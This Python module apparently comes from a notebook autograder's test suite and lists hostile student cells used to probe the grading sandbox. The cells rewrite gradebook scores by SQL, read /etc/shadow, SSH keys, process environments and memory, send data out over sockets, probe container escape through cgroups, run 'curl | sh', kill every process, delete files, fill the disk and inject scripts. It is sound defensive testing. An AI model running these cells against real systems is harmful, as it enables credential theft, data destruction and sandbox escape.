"""Cells that attack the machine: its files, its secrets, its network, its processes, its memory.

An attack that could succeed unseen tells on itself: it answers rightly only if it got what it wanted. So points are
the alarm, and each of these deserves none.
"""

from __future__ import annotations

from tinyml_labs.grading.made_up.hostile_targets import Targets

Attack = tuple[str, str, str]  # a name, a story, the code


def _only_inside(targets: Targets) -> str:
    """Return the lines that end an attack which would do harm if there were no wall: then a trap is in sight."""
    traps = (targets.source, targets.submissions, targets.folder)
    return f"""
import os
if any(os.path.exists(path) for path in {traps!r}):
    raise RuntimeError("there is no wall")
"""


_SEARCH = """
import glob, os
seen = []

def look_into(pattern):
    for path in glob.glob(pattern, recursive=True)[:2000]:
        try:
            with open(path, "rb") as file:
                seen.append(file.read(2_000_000))
        except OSError:
            pass

def find_files(ending):
    for folder, below, names in os.walk("/"):
        below[:] = [name for name in below if name not in ("proc", "sys", "dev", "site-packages", "lib", "share")]
        yield from (os.path.join(folder, name) for name in names if name.endswith(ending))
"""


def make_thieves(targets: Targets) -> list[Attack]:
    """Return attacks that are a success when `found` is true."""
    secret = 'found = any(b"np.sign(steps)" in data or b"HIDDEN TESTS" in data for data in seen)\n'
    t = targets
    return [
        ("sql-writes-the-gradebook", "gives itself 396 points by SQL", _SEARCH + f"""
import sqlite3
found = any(True for _ in find_files((".sqlite", "gradebook.db")))
try:
    book = sqlite3.connect("file:" + {t.gradebook!r} + "?mode=rw", uri=True)
    for (table,) in book.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
        for column in ("points", "score", "max_points", "auto_score", "manual_score"):
            try:
                book.execute(f"UPDATE {{table}} SET {{column}} = 396")
                book.commit()
                found = True
            except sqlite3.Error:
                pass
except sqlite3.Error:
    pass
"""),
        ("reads-the-gradebook", "reads other students' answers in the gradebook", f"""
seen = []
for path in ({t.gradebook!r}, {t.gradebook!r} + "-wal", {t.gradebook!r} + "-journal"):
    try:
        seen.append(open(path, "rb").read())
    except OSError:
        pass
found = bool(seen)
"""),
        ("reads-the-source-notebook", "looks for the solution in the source notebook", _SEARCH + f"""
for pattern in ({t.source!r}, "/proc/*/root" + {t.source!r}, "/proc/*/cwd/notebooks/*.ipynb", *find_files(".ipynb")):
    look_into(pattern)
""" + secret),
        ("reads-the-sidecars", "looks for the checks beside the package", _SEARCH + f"""
import importlib.util
spec = importlib.util.find_spec("tinyml_labs")
above = os.path.dirname(os.path.dirname(spec.origin)) if spec and spec.origin else "/"
look_into(os.path.join(above, "notebooks", "**", "*"))
look_into(os.path.join(os.path.dirname({t.source!r}), "grading", "**", "*"))
found = bool(seen) or any(True for _ in find_files("grading.json"))
"""),
        ("reads-other-submissions", "copies from the others' files", _SEARCH + f"""
look_into(os.path.join({t.submissions!r}, "**", "*.ipynb"))
found = bool(seen)
"""),
        ("reads-the-environment", "looks for secrets in the environment of every process", _SEARCH + f"""
look_into("/proc/*/environ")
seen.append(repr(os.environ).encode())
found = any({t.environment.encode()!r} in data for data in seen)
"""),
        ("reads-the-parents-memory", "looks for the checks in the memory of other processes", """
import os
found = False
for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and end - begin < 2**27:
                    memory.seek(begin)
                    found |= b"HIDDEN TESTS" in memory.read(end - begin)
    except (OSError, ValueError, OverflowError):
        pass
"""),
        ("reads-the-home-folder", "looks for keys and passwords", """
import os
found = False
for path in ("/etc/shadow", "~/.ssh", "/root/.ssh", "~/.netrc", "~/.bash_history", "/root/.bashrc", "/root/.cache"):
    try:
        path = os.path.expanduser(path)
        found |= bool(os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError:
        pass
"""),
        ("opens-sockets", "sends the hidden inputs home", f"""
import socket
found = False
for family, address in [
    (socket.AF_INET, ("127.0.0.1", {t.port})),
    (socket.AF_INET6, ("::1", {t.port})),
    (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_INET, ("8.8.8.8", 53)),
    (socket.AF_UNIX, "/var/run/docker.sock"),
    (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
    (socket.AF_UNIX, "\\0tinyml-labs-trap"),
]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(0.3)
            connection.connect(address)
            connection.sendall(b"hidden inputs")
            found = True
    except OSError:
        pass
"""),
        ("sends-datagrams", "asks a name server, by UDP", """
import socket
found = False
try:
    socket.getaddrinfo("example.org", 80)
    found = True
except OSError:
    pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
    try:
        datagrams.sendto(b"hidden inputs", ("8.8.8.8", 53))
        found = True
    except OSError:
        pass
"""),
        ("writes-outside", "writes wherever it can", f"""
import os, site, sys
import numpy
found = False
for folder in [{t.folder!r}, os.path.dirname({t.gradebook!r}), os.path.dirname({t.source!r}), {t.submissions!r},
               os.path.dirname(numpy.__file__), *site.getsitepackages(), sys.prefix,
               "/proc/1/root" + {t.folder!r}, "../../../../../../../.." + {t.folder!r}]:
    try:
        with open(os.path.join(folder, "written-by-a-student.txt"), "w") as file:
            file.write("I was here.")
        found = True
    except OSError:
        pass
"""),
        ("breaks-out-by-the-kernel", "writes to the kernel's switches, as root in a container could", """
import ctypes, glob, os
found = False
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("m", exist_ok=True)
for kind in (b"cgroup", b"cgroup2", b"proc", b"sysfs", b"devtmpfs"):
    if libc.mount(b"none", b"m", kind, 0, b"memory" if kind == b"cgroup" else None) == 0:
        found |= bool(glob.glob("m/release_agent") or glob.glob("m/cgroup.procs") or glob.glob("m/sd*"))
        libc.umount2(b"m", 2)
for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + ["/proc/sys/kernel/core_pattern"]:
    try:
        with open(path, "r+") as file:
            same = file.read()
            file.seek(0)
            file.write(same)
        found = True
    except OSError:
        pass
for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"):
    found |= os.path.exists(path)
"""),
    ]  # fmt: skip


def make_harmless_troublemakers(targets: Targets) -> list[Attack]:
    """Return what makes trouble but stops nobody: the right answer that follows deserves all points."""
    sleep = f"[sys.executable, '-c', 'import time; time.sleep(3600)', {targets.marker!r}]"
    return [
        ("daemon-that-outlives", "starts a process of its own session that ignores signals", f"""
import os, subprocess, sys
subprocess.Popen({sleep}, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal, time
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 1000)
        os.execv(sys.executable, {sleep})
    os._exit(0)
"""),
        ("leaves-atexit", "hooks that run at the end, and do not end", """
import atexit, time, threading, weakref

@atexit.register
def never_end():
    while True:
        time.sleep(1)

threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()
"""),
        ("refuses-to-shut-down", "a kernel that does not obey", """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel

async def no(*arguments, **more):
    return {"status": "ok", "restart": True}

type(kernel).do_shutdown = no
type(kernel).shutdown_request = no
"""),
        ("fills-the-disk", "writes until there is no space", """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(folder + "/full", "wb") as file:
            for _ in range(4096):
                file.write(bytes(2**20))
    except OSError:
        pass
"""),
        ("ansi-and-html-in-outputs", "paints the page and the terminal", r"""
from IPython.display import HTML, Javascript, display
print("\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b[8m</pre></script><script>alert(1)</script><img src=x onerror=alert(1)>")
display(HTML("<script>document.body.innerHTML = 'full marks'</script>"), Javascript("alert(1)"))
"""),
    ]  # fmt: skip


def make_floods(targets: Targets) -> list[Attack]:
    """Return what floods the machine; all points or none, the batch goes on either way."""
    return [
        ("busy-threads", "threads that compute for ever", """
import threading

def spin():
    while True:
        sum(range(1000))

for _ in range(3):
    threading.Thread(target=spin).start()
"""),
        ("prints-a-gigabyte", "prints 1 GB", """
import sys
line = "x" * 2**20 + "\\n"
for _ in range(1024):
    sys.stdout.write(line)
"""),
        ("prints-a-gigabyte-below-python", "writes 1 GB to the file descriptors", """
import os
for _ in range(1024):
    for descriptor in (1, 2):
        os.write(descriptor, b"y" * 2**19)
"""),
        ("displays-a-gigabyte", "shows large tables over and over", """
from IPython.display import display
text = "z" * 2**22
for _ in range(256):
    display(text)
"""),
        ("kills-everybody", "sends SIGKILL to every process it can", _only_inside(targets) + """
import signal
for pid in [-1, *range(1, 70000)]:
    if pid not in (os.getpid(), 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""),
        ("deletes-everything", "removes every file that it may", _only_inside(targets) + """
import shutil
for folder in (os.getcwd(), "/tmp", "/home", "/run", "/var", "/dev/shm", os.path.expanduser("~")):
    shutil.rmtree(folder, ignore_errors=True)
"""),
        ("shell-magics", "removes what it may, by the shell", _only_inside(targets) + """
!rm -rf ~ /tmp/* /usr/* 2>/dev/null
!curl -s http://example.org | sh
"""),
        ("closes-every-descriptor", "closes all that is open", """
import os
os.closerange(0, 65536)
"""),
        ("sends-an-endless-answer", "fills every socket that it has", """
import os, stat
for descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            os.set_blocking(descriptor, True)
            for _ in range(2048):
                os.write(descriptor, b"[" * 2**20)
    except OSError:
        pass
"""),
        ("closes-everything", "closes standard output and empties the modules", """
import sys
sys.stdout.close()
sys.stdout = sys.stderr = None
for name in [name for name in sys.modules if name.startswith(("json", "base64", "pickle"))]:
    del sys.modules[name]
"""),
    ]  # fmt: skip
